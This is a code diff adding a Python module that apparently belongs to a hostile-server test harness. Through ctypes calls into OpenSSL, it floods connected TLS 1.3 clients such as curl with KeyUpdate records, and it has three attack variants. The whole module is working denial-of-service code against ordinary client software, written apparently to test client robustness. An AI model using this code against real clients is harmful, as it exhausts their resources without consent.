@@ -1,0 +1,114 @@
+"""Attacks by TLS 1.3's KeyUpdate (RFC 8446 §4.6.3), which Python's own TLS cannot send.
+
+So the server's end of these connections is OpenSSL itself, the library that curl links, too.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import pathlib
+import socket
+
+from servers.http1 import CHUNKED, EVENT, chunk, head
+from servers.peer import Peer, attack
+from servers.websockets import handshake
+
+FILETYPE_PEM, UPDATE_NOT_REQUESTED, UPDATE_REQUESTED = 1, 0, 1
+#: Records that are sent together: 27 bytes each.
+RECORDS_AT_ONCE = 2000
+
+
+class Pointer(ctypes.c_void_p):
+    """Stays a pointer when a function returns it; `c_void_p` would become an int."""
+
+
+class Library:
+    def __init__(self) -> None:
+        #: For what may wait: other threads run meanwhile.
+        self.waiting = ctypes.CDLL("libssl.so.3")
+        #: For what is short and done often, where a change of threads would cost more.
+        self.short = ctypes.PyDLL("libssl.so.3")
+        for name in ("TLS_server_method", "SSL_CTX_new", "SSL_new", "BIO_s_mem", "BIO_new"):
+            getattr(self.short, name).restype = Pointer
+
+
+class Context:
+    """Certificate and key, in the place of an `ssl.SSLContext`."""
+
+    def __init__(self, chain_file: pathlib.Path) -> None:
+        self.library = Library()
+        library, name = self.library.short, str(chain_file).encode()
+        self.pointer = library.SSL_CTX_new(library.TLS_server_method())
+        if library.SSL_CTX_use_certificate_chain_file(self.pointer, name) != 1:
+            raise OSError(f"{chain_file} has no certificate")
+        if library.SSL_CTX_use_PrivateKey_file(self.pointer, name, FILETYPE_PEM) != 1:
+            raise OSError(f"{chain_file} has no key")
+
+    def wrap_socket(self, connection: socket.socket, server_side: bool) -> socket.socket:
+        assert server_side
+        return Connection(connection, self)
+
+
+class Connection(socket.socket):
+    """TLS over a socket, as far as attacks need it."""
+
+    def __init__(self, connection: socket.socket, context: Context) -> None:
+        super().__init__(fileno=connection.detach())
+        self.library = context.library
+        self._tls = self.library.short.SSL_new(context.pointer)
+        self.library.short.SSL_set_fd(self._tls, self.fileno())
+        if self.library.waiting.SSL_accept(self._tls) != 1:
+            raise OSError("the TLS handshake failed")
+
+    def recv(self, size: int, flags: int = 0) -> bytes:
+        data = ctypes.create_string_buffer(size)
+        count = self.library.waiting.SSL_read(self._tls, data, size)
+        return data.raw[: max(count, 0)]
+
+    def sendall(self, data: bytes, flags: int = 0) -> None:
+        if self.library.waiting.SSL_write(self._tls, data, len(data)) != len(data):
+            raise OSError("SSL_write failed")
+
+    def flood_key_updates(self, kind: int) -> None:
+        """Nothing else can be sent from here on."""
+        short = self.library.short
+        records = short.BIO_new(short.BIO_s_mem())
+        short.SSL_set0_wbio(self._tls, records)
+        data = ctypes.create_string_buffer(1 << 16)
+        while True:
+            for _ in range(RECORDS_AT_ONCE):
+                short.SSL_key_update(self._tls, kind)
+                short.SSL_do_handshake(self._tls)
+            count = short.BIO_read(records, data, len(data))
+            super().sendall(memoryview(data)[:count])
+
+
+def greet(peer: Peer) -> Connection:
+    """Answers with what each transport takes for a beginning."""
+    if peer.transport == "websocket":
+        handshake(peer)
+    else:
+        peer.request()
+        peer.send(head(peer, CHUNKED) + chunk(EVENT))
+    assert isinstance(peer.connection, Connection)
+    return peer.connection
+
+
+@attack
+def key_updates(peer: Peer) -> None:
+    """Each wants an answer, which costs the client as much again."""
+    connection = greet(peer)
+    peer.drain()
+    connection.flood_key_updates(UPDATE_REQUESTED)
+
+
+@attack
+def key_updates_unread(peer: Peer) -> None:
+    """The answers are not read."""
+    greet(peer).flood_key_updates(UPDATE_REQUESTED)
+
+
+@attack
+def key_updates_unasked(peer: Peer) -> None:
+    """No answer is wanted."""
+    greet(peer).flood_key_updates(UPDATE_NOT_REQUESTED)
